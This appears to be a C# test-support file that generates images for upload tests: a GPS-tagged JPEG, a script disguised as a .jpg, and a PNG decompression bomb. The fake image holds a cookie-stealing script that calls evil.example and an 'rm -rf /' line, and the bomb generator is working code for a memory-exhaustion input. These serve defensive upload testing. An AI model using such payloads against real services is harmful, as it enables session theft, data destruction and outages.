using System.IO.Compression;
using System.Text;
using SixLabors.ImageSharp;
using SixLabors.ImageSharp.Metadata.Profiles.Exif;
using SixLabors.ImageSharp.PixelFormats;

namespace MyHibachi.TestSupport;

/// <summary>Photos for upload tests: a real phone-like JPEG with GPS in its EXIF, and the malicious kinds.</summary>
public static class TestImages
{
    /// <summary>A JPEG of the given size with a colour gradient, a camera make and GPS coordinates in EXIF.</summary>
    public static byte[] JpegWithGps(int width = 2000, int height = 1500)
    {
        // A warm gradient with a lighter disc in the middle: something a person can recognise as a picture.
        using var image = new Image<Rgb24>(width, height);
        image.ProcessPixelRows(rows =>
        {
            for (var y = 0; y < rows.Height; y++)
            {
                var row = rows.GetRowSpan(y);
                for (var x = 0; x < row.Length; x++)
                {
                    var dx = x - width / 2.0;
                    var dy = y - height / 2.0;
                    var inDisc = dx * dx + dy * dy < Math.Pow(Math.Min(width, height) / 4.0, 2);
                    row[x] = inDisc
                        ? new Rgb24(250, 220, 120)
                        : new Rgb24((byte)(150 + x * 100 / width), (byte)(40 + y * 120 / height), 30);
                }
            }
        });

        var exif = new ExifProfile();
        exif.SetValue(ExifTag.Make, "TestPhone");
        exif.SetValue(ExifTag.GPSLatitudeRef, "N");
        exif.SetValue(ExifTag.GPSLatitude, [new Rational(33, 1), new Rational(44, 1), new Rational(56, 1)]);
        exif.SetValue(ExifTag.GPSLongitudeRef, "W");
        exif.SetValue(ExifTag.GPSLongitude, [new Rational(84, 1), new Rational(23, 1), new Rational(16, 1)]);
        image.Metadata.ExifProfile = exif;
        using var output = new MemoryStream();
        image.SaveAsJpeg(output);
        return output.ToArray();
    }

    /// <summary>Whether a JPEG still carries EXIF (and so could carry GPS).</summary>
    public static bool HasExif(byte[] jpeg) => Image.Identify(jpeg)?.Metadata.ExifProfile is not null;

    public static (int Width, int Height) Size(byte[] image)
    {
        var info = Image.Identify(image) ?? throw new InvalidOperationException("Not an image.");
        return (info.Width, info.Height);
    }

    /// <summary>A script with a .jpg name: text, not a photo.</summary>
    public static byte[] ScriptNamedJpg() => Encoding.UTF8.GetBytes("<script>fetch('https://evil.example/'+document.cookie)</script>\n#!/bin/sh\nrm -rf /\n");

    /// <summary>
    /// A decompression bomb: a valid PNG of a few kilobytes whose header says <paramref name="side"/> ×
    /// <paramref name="side"/> pixels (at 30 000, 3.6 GB once decoded).
    /// </summary>
    public static byte[] PngBomb(int side = 30_000)
    {
        using var png = new MemoryStream();
        png.Write([0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A]);
        var header = new byte[13];
        WriteBigEndian(header, 0, side);
        WriteBigEndian(header, 4, side);
        header[8] = 8; // bit depth
        header[9] = 2; // truecolour
        Chunk(png, "IHDR", header);
        using (var compressed = new MemoryStream())
        {
            using (var zlib = new ZLibStream(compressed, CompressionLevel.SmallestSize, leaveOpen: true))
            {
                var row = new byte[1 + side * 3];
                for (var i = 0; i < 200; i++)
                {
                    zlib.Write(row);
                }
            }

            Chunk(png, "IDAT", compressed.ToArray());
        }

        Chunk(png, "IEND", []);
        return png.ToArray();
    }

    private static void Chunk(Stream png, string type, byte[] data)
    {
        var length = new byte[4];
        WriteBigEndian(length, 0, data.Length);
        png.Write(length);
        var typed = Encoding.ASCII.GetBytes(type).Concat(data).ToArray();
        png.Write(typed);
        var crc = new byte[4];
        WriteBigEndian(crc, 0, (int)Crc32(typed));
        png.Write(crc);
    }

    private static uint Crc32(byte[] bytes)
    {
        var crc = 0xFFFFFFFFu;
        foreach (var b in bytes)
        {
            crc ^= b;
            for (var k = 0; k < 8; k++)
            {
                crc = (crc & 1) != 0 ? 0xEDB88320u ^ (crc >> 1) : crc >> 1;
            }
        }

        return crc ^ 0xFFFFFFFFu;
    }

    private static void WriteBigEndian(byte[] buffer, int offset, int value)
    {
        buffer[offset] = (byte)(value >> 24);
        buffer[offset + 1] = (byte)(value >> 16);
        buffer[offset + 2] = (byte)(value >> 8);
        buffer[offset + 3] = (byte)value;
    }
}
